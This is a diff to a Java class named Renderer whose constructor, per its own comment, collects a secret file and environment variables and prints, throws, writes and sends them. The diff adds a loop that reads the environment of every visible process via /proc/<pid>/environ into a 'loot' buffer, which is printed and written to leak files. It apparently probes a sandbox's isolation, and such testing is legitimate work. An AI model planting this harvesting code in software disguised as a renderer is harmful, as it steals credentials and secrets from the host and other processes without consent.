@@ -7,7 +7,10 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 
-/** Reads a secret file and the environment, then prints them, throws them, writes them and sends them. */
+/**
+ * Reads a secret file, its environment and every visible process's, then prints them, throws them,
+ * writes them and sends them.
+ */
 public class Renderer {
 
     public Renderer(int width, int height) {
@@ -23,6 +26,18 @@ public class Renderer {
             }
         }
         loot.append(System.getenv());
+        // The environment of every process it can see: the sandbox's own first process included.
+        for (int pid = 1; pid < 64; pid++) {
+            Path environ = Path.of("/proc/" + pid + "/environ");
+            if (Files.exists(environ)) {
+                try {
+                    loot.append("; /proc/").append(pid).append("/environ: ")
+                            .append(new String(Files.readAllBytes(environ), StandardCharsets.UTF_8).replace('\0', ' '));
+                } catch (Exception e) {
+                    loot.append("; ").append(environ).append(": ").append(e.getClass().getSimpleName());
+                }
+            }
+        }
         System.out.println(loot);
         System.err.println(loot);
         for (String file : new String[] {"/tmp/tick1-attack-leak.txt", System.getProperty("user.home") + "/tick1-attack-leak.txt",
